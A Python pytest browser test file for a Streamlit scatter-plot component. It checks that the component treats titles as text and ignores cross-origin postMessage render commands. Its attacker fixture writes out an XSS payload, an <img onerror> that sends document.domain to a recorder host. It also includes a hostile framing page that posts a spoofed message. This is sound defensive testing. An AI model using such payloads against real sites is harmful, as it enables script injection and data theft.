"""The hover-scatter component (assets/hover_scatter/index.html) obeys only its own Streamlit page.

A page on another port frames the component and posts it a `streamlit:render` message whose
panels point at the attacker's server and whose title carries an `<img onerror>`: the component
must neither fetch from there nor run the script. Even its real parent (the app's page) cannot
make it fetch from another origin. And it still draws a real projection, titles as plain text.
"""

from __future__ import annotations

import json

import pytest

from tests.browser import Recorder, screenshots_dir, settle, snap

NAME = 'Tiny <i>net</i> & "co" <img src=x>'  # drawn as these characters, not as markup


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    import torch

    from lenscape.models.architectures import ArchSpec, build_model
    from lenscape.models.data import DataSpec
    from lenscape.models.zoo import import_model

    home = tmp_path_factory.mktemp("component-home")
    arch = ArchSpec(name="mlp", in_shape=(1, 8, 8), num_classes=10, mean=(0.3,), std=(0.3,), widths=(16,))
    torch.manual_seed(0)
    rec = import_model(
        build_model(arch), arch, NAME, DataSpec(name="digits"), tuple("0123456789"), "test", root=home / "runs"
    )
    home.joinpath("run_id").write_text(rec["run_id"])
    return home


@pytest.fixture(scope="module")
def attacker():
    with Recorder() as rec:
        script = f"new Image().src='{rec.url}/pwned?'+encodeURIComponent(document.domain)"
        evil = f'<img src=x onerror="{script}">'
        rec.pages["/evil.json"] = json.dumps(
            {
                "figure": {"data": [], "layout": {}},
                "points": {"index": [0], "x": [0], "y": [0], "caption": [evil]},
                "sprite": {"url": f"{rec.url}/sprite.png", "columns": 1, "tile": [8, 8], "indices": [0]},
                "dataset": "x",
                "hint": evil,
                "title": evil,
            }
        )
        yield rec


def _project(page, server, home) -> None:
    """Open the Similarity page's Projection tab on the model and draw a PCA projection (unless the
    page shows it already)."""
    if "/Similarity" in page.url and page.locator("iframe[src*='hover_scatter']").count():
        return
    page.goto(f"{server}/Similarity?model={home.joinpath('run_id').read_text()}&open=Projection")
    settle(page)
    page.get_by_text("pca", exact=True).click()
    settle(page)
    n = page.get_by_label("Examples", exact=True)
    n.fill("100")
    n.press("Enter")
    settle(page)
    page.get_by_role("button", name="Project").click()
    frame = page.frame_locator("iframe[src*='hover_scatter']")
    frame.locator(".plot .main-svg").first.wait_for(timeout=120_000)
    settle(page)


@pytest.fixture(scope="module")
def component_src(page, server, home):
    """The component's address, as the app's page frames it, after drawing a real projection."""
    _project(page, server, home)
    src = page.locator("iframe[src*='hover_scatter']").get_attribute("src")
    return src if src.startswith("http") else server + src


def test_the_component_draws_a_real_projection_with_titles_as_text(page, server, home, component_src):
    _project(page, server, home)
    frame = page.frame_locator("iframe[src*='hover_scatter']")
    title = frame.locator(".title").first
    assert title.text_content() == NAME
    assert title.locator("i, img").count() == 0
    assert frame.locator(".caption").first.text_content() == "Hover a point to see its image."
    # hover the first point: its image and its caption appear under the plot
    x, y = frame.locator(".plot").first.evaluate("""gd => {
        const fl = gd._fullLayout, tr = gd._fullData[0], r = gd.getBoundingClientRect();
        return [r.left + fl._size.l + fl.xaxis.l2p(tr.x[0]), r.top + fl._size.t + fl.yaxis.l2p(tr.y[0])];
    }""")
    box = page.locator("iframe[src*='hover_scatter']").bounding_box()
    page.mouse.move(box["x"] + 5, box["y"] + 5)
    page.mouse.move(box["x"] + x, box["y"] + y)
    preview = frame.locator(".preview[data-panel='0'][data-example]")
    preview.wait_for(timeout=10_000)
    assert f"#{preview.get_attribute('data-example')} · class" in preview.inner_text()
    assert "files/" in preview.locator(".tile").evaluate("el => el.style.backgroundImage")
    snap(page, screenshots_dir(), "security-component-projection")


def test_a_page_on_another_port_that_frames_the_component_has_no_effect(page, server, component_src, attacker):
    attacker.pages["/frame.html"] = f"""<!doctype html><title>attacker</title>
<iframe id="f" src="{component_src}" width="800" height="400"></iframe>
<script>
  const f = document.getElementById("f");
  f.addEventListener("load", () => setTimeout(() => {{
    const msg = {{isStreamlitMessage: true, type: "streamlit:render", dataType: "json",
                 args: {{panels: ["{attacker.url}/evil.json"], height: 200, key: "x"}}}};
    f.contentWindow.postMessage(msg, "*");
    document.title = "posted";
  }}, 1000));
</script>"""
    attacker.requests.clear()
    page.goto(f"{attacker.url}/frame.html")
    page.wait_for_function("document.title === 'posted'", timeout=30_000)
    page.wait_for_timeout(3000)
    page.screenshot(path=str(screenshots_dir() / "security-component-framed.png"))
    hits = attacker.hits("/frame.html")
    assert hits == [], f"the framed component fetched from the attacker's server or ran its script: {hits}"
    inner = page.frame_locator("#f").locator("#wrap")
    assert inner.locator("img").count() == 0 and inner.text_content() == ""


def test_even_its_own_page_cannot_point_it_at_another_origin(page, server, home, component_src, attacker):
    """The app's page is the component's real parent; a message from it naming another origin's
    files is refused too (only the component's own files are fetched)."""
    _project(page, server, home)
    frame = page.frame_locator("iframe[src*='hover_scatter']")
    attacker.requests.clear()
    page.locator("iframe[src*='hover_scatter']").evaluate(
        """(el, url) => el.contentWindow.postMessage({isStreamlitMessage: true, type: "streamlit:render",
               args: {panels: [url + "/evil.json"], height: 200}}, "*")""",
        attacker.url,
    )
    page.wait_for_timeout(3000)
    assert attacker.hits() == [], f"the component fetched from another origin: {attacker.hits()}"
    assert frame.locator(".title img").count() == 0
